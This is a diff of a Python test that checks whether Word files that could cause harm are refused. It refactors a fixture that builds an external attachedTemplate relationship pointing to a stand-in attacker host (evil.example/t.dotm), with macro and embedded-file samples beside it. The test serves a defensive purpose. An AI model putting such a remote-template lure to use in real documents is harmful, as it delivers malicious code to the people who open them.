@@ -126,8 +126,9 @@ def test_whatever_stands_in_a_file_is_read_or_refused_in_words(typed):
 
 def test_files_that_could_hurt_are_refused():
     good = word("{{ программа }}")
-    rels = "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
-    rels += "<Relationship Id='r9' Type='http://x/attachedTemplate' Target='http://evil.example/t.dotm' TargetMode='External'/></Relationships>"
+    schema = "http://schemas.openxmlformats.org/package/2006/relationships"
+    linked = "Type='http://x/attachedTemplate' Target='http://evil.example/t.dotm' TargetMode='External'"
+    rels = f"<Relationships xmlns='{schema}'><Relationship Id='r9' {linked}/></Relationships>"
     bad = [
         (packed(good, "word/vbaProject.bin", b"x"), "macros"),
         (packed(good, "word/embeddings/a.xlsx", b"x"), "embedded"),
